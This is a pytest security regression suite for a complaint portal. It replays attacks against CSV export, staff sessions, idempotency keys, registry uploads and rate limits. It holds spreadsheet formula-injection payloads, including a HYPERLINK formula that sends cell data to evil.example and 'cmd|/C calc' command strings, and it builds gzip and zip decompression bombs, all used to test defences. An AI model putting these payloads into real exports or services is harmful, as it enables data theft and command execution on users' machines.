"""Security round 2 (issue #13): each attack found on the running portal, replayed.

Every test here sends what the attacker sent and states what the portal must do
instead; each failed before its fix.
"""

from __future__ import annotations

import csv
import gzip
import io
import multiprocessing
import time
import zipfile
import re
from datetime import datetime, timedelta, timezone
from email.utils import parsedate_to_datetime

import pytest

from app import create_app
from portal.csv_export import export_csv, neutralise_cell
from portal.storage import registry as registry_module
from portal.storage import staff as staff_store
from portal.storage.db import connect, migrate
from portal.storage.demo import cnpj_with_check_digits, formatted_cnpj
from portal.storage.registry import ImportFileError, import_registry

PASSWORD = "senha-muito-segura-2026"


@pytest.fixture()
def app(tmp_path, index_dir):
    return create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True, "WTF_CSRF_ENABLED": False})


@pytest.fixture()
def db(tmp_path):
    database = connect(tmp_path / "portal.db")
    migrate(database)
    yield database
    database.conn.close()


def _staff(app, username: str = "fiscal") -> None:
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    staff_store.create_user(db, username, PASSWORD)
    db.conn.close()


def _login(client, username: str = "fiscal"):
    response = client.post("/admin/entrar", data={"usuario": username, "senha": PASSWORD})
    assert response.status_code == 303
    return response


# -- High: formula injection in the CSV export ---------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
    '@SUM(1+9)*cmd|"/C calc"!A0',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def test_csv_export_neutralises_every_formula_cell(app):
    client = app.test_client()
    protocols = []
    for text in FORMULAS:
        body = {"data_ocorrencia": "2026-11-01", "ocorrencias": ["outro"], "jurisdicao": "pe", "relato": "relato " + text,
                "origem": text, "destino": text}
        response = client.post("/api/v1/denuncias", json=body)
        assert response.status_code == 201, response.get_json()
        protocols.append(response.get_json()["protocolo"])
    _staff(app)
    _login(client)
    export = client.get("/admin/exportar.csv")
    assert export.status_code == 200 and export.mimetype == "text/csv"
    text = export.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["protocolo"] for r in rows] == protocols
    for row in rows:
        for name, cell in row.items():
            first = cell.lstrip(" \u00a0\u3000")[:1]
            assert first not in set("=+-@\t\r\n＝＋－＠"), (name, cell)
    # The text is kept after the quote (the parser trims blanks at the ends), so staff still read what was typed.
    stripped = [text.strip() for text in FORMULAS]
    assert [r["origem"] for r in rows] == ["'" + s for s in stripped]
    # Every cell is quoted (RFC 4180), so a comma or a line break cannot open a new cell.
    for line in text.splitlines()[:2]:
        assert line.startswith('"') and line.endswith('"')


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+55 81 9999", "'+55 81 9999"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    (" =x", "' =x"), ("＠x", "'＠x"), ("a=b", "a=b"), ("", ""), (None, ""), (3, "3"), ("'=x", "'=x"),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_export_csv_quotes_every_cell_and_escapes_quotes():
    body = export_csv([{"a": 'x","=cmd', "b": "linha\nnova"}], ["a", "b"])
    assert body == '"a","b"\r\n"x"",""=cmd","linha\nnova"\r\n'
    assert list(csv.reader(io.StringIO(body))) == [["a", "b"], ['x","=cmd', "linha\nnova"]]


# -- Medium: staff sessions ------------------------------------------------------------------------


def _complaint_with_contact(client) -> None:
    body = {"data_ocorrencia": "2026-11-01", "ocorrencias": ["porta_aberta"], "jurisdicao": "pe",
            "contato": {"email": "testemunha@example.com"}, "consentimento": True}
    assert client.post("/api/v1/denuncias", json=body).status_code == 201


def test_staff_cookie_lives_at_most_the_absolute_limit_and_is_not_renewed_on_every_request(app):
    _staff(app)
    client = app.test_client()
    login = _login(client)
    cookie = login.headers["Set-Cookie"]
    expires = parsedate_to_datetime(re.search(r"Expires=([^;]+)", cookie).group(1))
    lifetime = expires - datetime.now(timezone.utc)
    assert timedelta(hours=7, minutes=59) < lifetime <= timedelta(hours=8)
    for url in ("/admin/", "/admin/auditoria"):
        response = client.get(url)
        assert response.status_code == 200 and "Set-Cookie" not in response.headers


def test_a_cookie_saved_before_logout_is_refused_afterwards(app):
    _staff(app)
    client = app.test_client()
    _complaint_with_contact(client)
    _login(client)
    saved = client.get_cookie("session").value
    assert "testemunha@example.com" in client.get("/admin/denuncias/1?contato=1").get_data(as_text=True)
    assert client.post("/admin/sair").status_code == 303
    attacker = app.test_client()
    attacker.set_cookie("session", saved)
    for url in ("/admin/", "/admin/denuncias/1?contato=1", "/admin/exportar.csv"):
        replay = attacker.get(url)
        assert replay.status_code == 302 and replay.headers["Location"].startswith("/admin/entrar"), url
    assert attacker.post("/admin/denuncias/1/situacao", data={"situacao": "arquivada"}).status_code == 401
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    assert db.execute("SELECT situacao FROM complaints WHERE id = 1").fetchone()[0] == "recebida"
    assert db.execute("SELECT COUNT(*) FROM staff_sessions").fetchone()[0] == 0
    actions = [r[0] for r in db.execute("SELECT acao FROM audit_log ORDER BY id")]
    assert actions == ["login", "viu_contato", "logout"]


@pytest.mark.parametrize("column, age, reason", [("ultimo_uso", timedelta(minutes=31), "ociosa"), ("criada_em", timedelta(hours=8, seconds=1), "absoluta")])
def test_sessions_expire_when_idle_and_after_the_absolute_limit(app, column, age, reason):
    _staff(app)
    client = app.test_client()
    _login(client)
    assert client.get("/admin/").status_code == 200
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    past = (datetime.now(timezone.utc) - age).replace(microsecond=0).isoformat()
    db.execute(f"UPDATE staff_sessions SET {column} = ?", [past])
    response = client.get("/admin/")
    assert response.status_code == 302 and response.headers["Location"].startswith("/admin/entrar")
    assert db.execute("SELECT COUNT(*) FROM staff_sessions").fetchone()[0] == 0
    assert db.execute("SELECT acao, detalhes FROM audit_log ORDER BY id DESC LIMIT 1").fetchone() == ("sessao_expirou", reason)


def test_a_session_in_use_stays_open_and_records_its_last_use_at_most_once_a_minute(app):
    _staff(app)
    client = app.test_client()
    _login(client)
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    recent = (datetime.now(timezone.utc) - timedelta(minutes=29)).replace(microsecond=0).isoformat()
    db.execute("UPDATE staff_sessions SET ultimo_uso = ?", [recent])
    assert client.get("/admin/").status_code == 200
    touched = db.execute("SELECT ultimo_uso FROM staff_sessions").fetchone()[0]
    assert touched > recent
    assert client.get("/admin/").status_code == 200
    assert db.execute("SELECT ultimo_uso FROM staff_sessions").fetchone()[0] == touched


# -- Medium: Idempotency-Key ------------------------------------------------------------------------

BODY_A = {"data_ocorrencia": "2026-11-01", "ocorrencias": ["porta_aberta"], "jurisdicao": "pe", "relato": "primeira"}
BODY_B = {"data_ocorrencia": "2026-11-02", "ocorrencias": ["sem_autorizacao"], "jurisdicao": "sp", "relato": "segunda"}


def _count(app) -> int:
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    return db.execute("SELECT COUNT(*) FROM complaints").fetchone()[0]


def test_same_key_same_body_same_client_is_a_retry(app):
    client = app.test_client()
    first = client.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"})
    again = client.post("/api/v1/denuncias", json={**BODY_A, "relato": "  primeira  "}, headers={"Idempotency-Key": "k1"})
    assert (first.status_code, again.status_code) == (201, 200)
    assert again.get_json()["protocolo"] == first.get_json()["protocolo"]
    assert _count(app) == 1


def test_a_used_key_with_another_body_is_refused_and_nothing_is_lost(app):
    client = app.test_client()
    first = client.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"})
    other = client.post("/api/v1/denuncias", json=BODY_B, headers={"Idempotency-Key": "k1"})
    assert other.status_code == 422
    data = other.get_json()
    assert data["field"] == "Idempotency-Key" and "protocolo" not in data and first.get_json()["protocolo"] not in other.get_data(as_text=True)
    assert _count(app) == 1
    resent = client.post("/api/v1/denuncias", json=BODY_B, headers={"Idempotency-Key": "k2"})
    assert resent.status_code == 201 and _count(app) == 2


def test_another_clients_key_never_reveals_the_first_result(app):
    victim = app.test_client()
    attacker = app.test_client()
    first = victim.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"}, environ_base={"REMOTE_ADDR": "198.51.100.7"})
    probe = attacker.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"}, environ_base={"REMOTE_ADDR": "203.0.113.9"})
    assert (first.status_code, probe.status_code) == (201, 201)
    assert probe.get_json()["protocolo"] != first.get_json()["protocolo"]
    # ... and a different body from the other client is stored too, not answered with 422.
    third = attacker.post("/api/v1/denuncias", json=BODY_B, headers={"Idempotency-Key": "k1"}, environ_base={"REMOTE_ADDR": "203.0.113.10"})
    assert third.status_code == 201 and _count(app) == 3
    stored = connect(app.config["DATA_DIR"] + "/portal.db").execute("SELECT chave_idempotencia FROM complaints").fetchall()
    assert all(len(k) == 64 and "k1" not in k and "198.51" not in k for (k,) in stored)


def test_keys_older_than_the_window_are_forgotten(app):
    client = app.test_client()
    client.post("/api/v1/denuncias", json=BODY_A, headers={"Idempotency-Key": "k1"})
    db = connect(app.config["DATA_DIR"] + "/portal.db")
    db.execute("UPDATE complaints SET criada_em = ?", [(datetime.now(timezone.utc) - timedelta(hours=25)).replace(microsecond=0).isoformat()])
    again = client.post("/api/v1/denuncias", json=BODY_B, headers={"Idempotency-Key": "k1"})
    assert again.status_code == 201 and _count(app) == 2
    assert db.execute("SELECT COUNT(*) FROM complaints WHERE chave_idempotencia IS NOT NULL").fetchone()[0] == 1


def test_the_form_sent_again_with_other_data_is_refused_and_keeps_what_was_typed(app):
    client = app.test_client()
    form = {"data_ocorrencia": "2026-11-01", "ocorrencias": "porta_aberta", "jurisdicao": "pe", "chave": "form-1"}
    assert client.post("/denuncia", data=form).status_code == 303
    edited = client.post("/denuncia", data={**form, "relato": "texto novo que não pode sumir"})
    html = edited.get_data(as_text=True)
    assert edited.status_code == 422 and "texto novo que não pode sumir" in html and "Nada foi registrado agora" in html
    assert 'value="form-1"' not in html and _count(app) == 1


# -- Medium: registry upload ------------------------------------------------------------------------

CNPJ = formatted_cnpj(cnpj_with_check_digits("112223330001"))
OPS = "cnpj,razao_social,nome_fantasia,jurisdicao,crc_numero,crc_emissao,crc_validade,situacao,modalidades,telefone,email\n" \
      f"{CNPJ},Rota Turismo,Rota,pe,CRC-1,,2030-01-10,ativo,,,\n"
VEH_HEADER = "placa,cnpj,tipo,lugares,ano_fabricacao,vistoria_validade,seguro_validade,situacao\n"


def _vehicles(n: int) -> str:
    return VEH_HEADER + "".join(f"QUA{i:04d},{CNPJ},onibus,44,2019,2030-03-01,2030-05-10,ativo\n" for i in range(n))


@pytest.fixture()
def csrf_app(tmp_path, index_dir):
    return create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True, "WTF_CSRF_ENABLED": True})


def _token(client, url: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', client.get(url).get_data(as_text=True)).group(1)


def _csrf_login(client) -> None:
    token = _token(client, "/admin/entrar")
    assert client.post("/admin/entrar", data={"usuario": "fiscal", "senha": PASSWORD, "csrf_token": token}).status_code == 303


def _upload(client, operators: bytes, vehicles: bytes, names=("o.csv", "v.csv")):
    token = _token(client, "/admin/registro")
    return client.post("/admin/registro", content_type="multipart/form-data",
                       data={"csrf_token": token, "operadoras": (io.BytesIO(operators), names[0]), "veiculos": (io.BytesIO(vehicles), names[1])})


def test_staff_can_upload_a_registry_larger_than_the_global_body_limit(csrf_app):
    _staff(csrf_app)
    client = csrf_app.test_client()
    _csrf_login(client)
    vehicles = _vehicles(3000).encode()
    assert len(vehicles) > 3 * 64 * 1024
    response = _upload(client, OPS.encode(), vehicles)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert "Cadastro substituído" in response.get_data(as_text=True)
    assert client.get("/api/v1/veiculos/QUA2999").get_json()["situacao"] == "regular"


def test_the_large_limit_is_only_for_signed_in_staff_and_has_its_own_ceiling(csrf_app):
    client = csrf_app.test_client()
    big = {"operadoras": (io.BytesIO(OPS.encode()), "o.csv"), "veiculos": (io.BytesIO(_vehicles(3000).encode()), "v.csv")}
    assert client.post("/admin/registro", data=big, content_type="multipart/form-data").status_code == 413
    _staff(csrf_app)
    _csrf_login(client)
    csrf_app.config["REGISTRY_MAX_UPLOAD"] = 100 * 1024
    assert _upload(client, OPS.encode(), _vehicles(3000).encode()).status_code == 413
    assert client.get("/api/v1/veiculos/QUA0001").get_json()["situacao"] == "nao_encontrado"


def test_a_gzip_bomb_is_refused_and_the_registry_kept(csrf_app):
    _staff(csrf_app)
    client = csrf_app.test_client()
    _csrf_login(client)
    bomb = gzip.compress(VEH_HEADER.encode() + b"0" * (64 * 1024 * 1024), compresslevel=9)
    assert len(bomb) < 64 * 1024
    response = _upload(client, OPS.encode(), bomb, names=("o.csv", "v.csv.gz"))
    assert response.status_code == 400 and "se expande mais de 50 vezes" in response.get_data(as_text=True)
    assert connect(csrf_app.config["DATA_DIR"] + "/portal.db").execute("SELECT COUNT(*) FROM vehicles").fetchone()[0] == 0


def test_compressed_registries_are_read(db):
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("veiculos.csv", _vehicles(50))
    report = import_registry(db, io.BytesIO(gzip.compress(OPS.encode())), io.BytesIO(zipped.getvalue()))
    assert report.replaced and (report.operators, report.vehicles) == (1, 50)


def _zip(members: dict[str, bytes]) -> io.BytesIO:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    out.seek(0)
    return out


@pytest.mark.parametrize("vehicles, message", [
    (lambda: _zip({"v.csv": VEH_HEADER.encode() + b"0" * (32 * 1024 * 1024)}), "grande demais ou comprimido demais"),
    (lambda: _zip({"a.csv": b"x", "b.csv": b"y"}), "exatamente um arquivo CSV"),
    (lambda: io.BytesIO(b"PK\x03\x04" + b"\x00" * 100), ".zip danificado"),
    (lambda: io.BytesIO(gzip.compress(b"placa," + b"x" * 200_000)), "arquivo ilegível"),
    (lambda: io.BytesIO(VEH_HEADER.encode() + b"QUA0001,\xff\xfe\n"), "não está em UTF-8"),
])
def test_bad_archives_are_refused_with_a_reason(db, vehicles, message):
    with pytest.raises(ImportFileError, match=re.escape(message)):
        import_registry(db, io.BytesIO(OPS.encode()), vehicles())


def test_oversized_csv_is_refused_after_decompression(db, monkeypatch):
    monkeypatch.setattr(registry_module, "MAX_CSV_BYTES", 256 * 1024)
    big = gzip.compress(_vehicles(5000).encode())
    with pytest.raises(ImportFileError, match="arquivo grande demais"):
        import_registry(db, io.BytesIO(OPS.encode()), io.BytesIO(big))


class _NoWholeRead(io.BytesIO):
    def read(self, size=-1):
        assert size is not None and size >= 0, "the import must read the upload in chunks"
        return super().read(size)

    def read1(self, size=-1):
        return self.read(size if size is not None and size >= 0 else 65536)


def test_the_import_streams_the_file(db):
    report = import_registry(db, _NoWholeRead(OPS.encode()), _NoWholeRead(_vehicles(2000).encode()))
    assert report.replaced and report.vehicles == 2000


def test_only_the_first_rejections_are_kept_in_memory(db):
    report = import_registry(db, io.BytesIO(OPS.encode()), io.BytesIO((VEH_HEADER + "x\n" * 5000).encode()))
    assert report.rejected_count == 5000 and len(report.rejected) == registry_module.MAX_REPORTED


# -- Medium: rate limits shared by the workers of one machine -------------------------------------


def _worker_hits(data_dir: str, index_dir: str, n: int, start, results) -> None:
    worker = create_app({"DATA_DIR": data_dir, "INDEX_DIR": index_dir, "TESTING": True, "RATELIMIT_ENABLED": True})
    client = worker.test_client()
    start.wait()
    results.put([client.get("/api/v1/veiculos/ABC1234").status_code for _ in range(n)])


def test_rate_limits_hold_across_worker_processes(tmp_path, index_dir):
    """Four processes on one data dir stand for gunicorn's workers: together they get the
    documented 60 lookups a minute, not 60 each (memory:// counted per process)."""
    ctx = multiprocessing.get_context("fork")
    start, results = ctx.Event(), ctx.Queue()
    workers = [ctx.Process(target=_worker_hits, args=(str(tmp_path), str(index_dir), 40, start, results)) for _ in range(4)]
    for w in workers:
        w.start()
    start.set()
    statuses = [s for _ in workers for s in results.get(timeout=120)]
    for w in workers:
        w.join(timeout=30)
    assert len(statuses) == 160
    assert statuses.count(200) == 60 and statuses.count(429) == 100


def test_sqlite_counter_is_atomic_across_processes(tmp_path):
    from limits.storage import storage_from_string

    uri = "sqlite://" + str(tmp_path / "ratelimit.db")
    ctx = multiprocessing.get_context("fork")
    workers = [ctx.Process(target=_incr_many, args=(uri, 200)) for _ in range(4)]
    for w in workers:
        w.start()
    for w in workers:
        w.join(timeout=60)
    storage = storage_from_string(uri)
    assert storage.get("k") == 800
    assert 0 < storage.get_expiry("k") - time.time() <= 60
    storage.clear("k")
    assert storage.get("k") == 0


def _incr_many(uri: str, n: int) -> None:
    from limits.storage import storage_from_string

    storage = storage_from_string(uri)
    for _ in range(n):
        storage.incr("k", 60)


def test_an_expired_window_starts_again(tmp_path):
    from limits.storage import storage_from_string

    storage = storage_from_string("sqlite://" + str(tmp_path / "ratelimit.db"))
    assert [storage.incr("w", 1) for _ in range(3)] == [1, 2, 3]
    time.sleep(1.05)
    assert storage.get("w") == 0 and storage.incr("w", 1) == 1


def test_the_default_store_is_the_shared_file_and_a_configured_one_wins(tmp_path, index_dir, monkeypatch):
    app = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True})
    assert app.config["RATELIMIT_STORAGE_URI"] == "sqlite://" + str(tmp_path.resolve() / "ratelimit.db")
    monkeypatch.setenv("RATELIMIT_STORAGE_URI", "memory://")
    other = create_app({"DATA_DIR": str(tmp_path), "INDEX_DIR": str(index_dir), "TESTING": True})
    assert other.config["RATELIMIT_STORAGE_URI"] == "memory://"
